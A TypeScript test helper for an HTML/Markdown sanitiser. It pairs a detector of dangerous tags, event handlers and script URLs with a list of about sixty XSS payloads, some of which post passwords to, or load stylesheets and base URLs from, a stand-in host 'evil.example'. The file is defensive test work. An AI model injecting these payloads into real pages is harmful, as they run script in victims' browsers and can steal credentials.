import { htmlToHast } from 'satteri'

interface Node {
  readonly type: string
  readonly tagName?: string
  readonly properties?: Readonly<Record<string, unknown>>
  readonly children?: readonly Node[]
}

const RUNS = new Set([
  'script', 'style', 'iframe', 'object', 'embed', 'base', 'link', 'meta', 'form', 'svg', 'math', 'template', 'noscript', 'button', 'textarea',
  'frameset', 'applet', 'portal', 'audio', 'video',
]) // biome-ignore format: a list

const SCHEME = /^(?:javascript|vbscript|data|file|blob|about):/i

/** What a browser would find to run in a piece of HTML: it is parsed as browsers parse it. */
export function dangers(html: string): string[] {
  const found: string[] = []
  const visit = (node: Node, insideCode: boolean): void => {
    if (node.tagName && RUNS.has(node.tagName)) found.push(`<${node.tagName}>`)
    const classes = String(node.properties?.className ?? '')
    const highlighted = insideCode || classes.includes('astro-code')
    for (const [name, value] of Object.entries(node.properties ?? {})) {
      const text = String(value)
      const bare = text.replace(/[\u0000-\u0020]/g, '')
      if (/^on/i.test(name)) found.push(`${name}=`)
      else if (
        /^(?:href|src|action|formaction|xlinkhref|poster|cite|ping|background)$/i.test(name) &&
        SCHEME.test(bare) &&
        !/^data:image\//i.test(bare)
      )
        found.push(`${name}=${bare}`)
      else if (/^srcset$/i.test(name) && /javascript:/i.test(bare)) found.push(`${name}=${bare}`)
      else if (name === 'srcdoc') found.push('srcdoc')
      else if (name === 'style' && !highlighted && !/^text-align: (?:left|center|right)$/.test(text))
        found.push(`style=${text}`)
    }
    for (const child of node.children ?? []) visit(child, highlighted)
  }
  visit(htmlToHast(html, { fragment: true }) as Node, false)
  return found
}

/** Markdown and HTML of the kind that gets past a careless sanitiser. */
export const NASTY = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<SCRIPT SRC=//x.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)" onload=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x0A;javascript&colon;alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](<java script:alert(1)>)',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '<javascript:alert(1)>',
  '[x]\n\n[x]: javascript:alert(1)',
  '![x](javascript:alert(1))',
  '![x](data:text/html,<script>)',
  '![x](x"onerror="alert(1))',
  '![x](y "a\\" onerror=\\"alert(1)")',
  '[x](y "\\"><script>alert(1)</script>")',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<pre class="astro-code" style="position:fixed;inset:0"><code>x</code></pre>',
  '<style>*{display:none}</style>',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?><script>alert(1)</script>',
  '# <img src=x onerror=alert(1)>',
  '| <img src=x onerror=alert(1)> |\n| --- |\n| <script>alert(1)</script> |',
  '[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))',
  '```<img src=x onerror=alert(1)>\nx\n```',
  '```js" onload="alert(1)\nx\n```',
  '<x onclick=alert(1)>y</x>',
  '<div\nonclick=alert(1)>',
  '<a href="https://x.example" target=_blank onclick=alert(1)>x</a>',
  '<picture><source srcset="javascript:alert(1)"><img src="x"></picture>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<img src="`<img src=x onerror=alert(1)>`">',
  '<b <script>alert(1)</script>0',
  '<a href="x">&lt;script&gt;alert(1)&lt;/script&gt;</a>',
  '\\<script>alert(1)\\</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
]
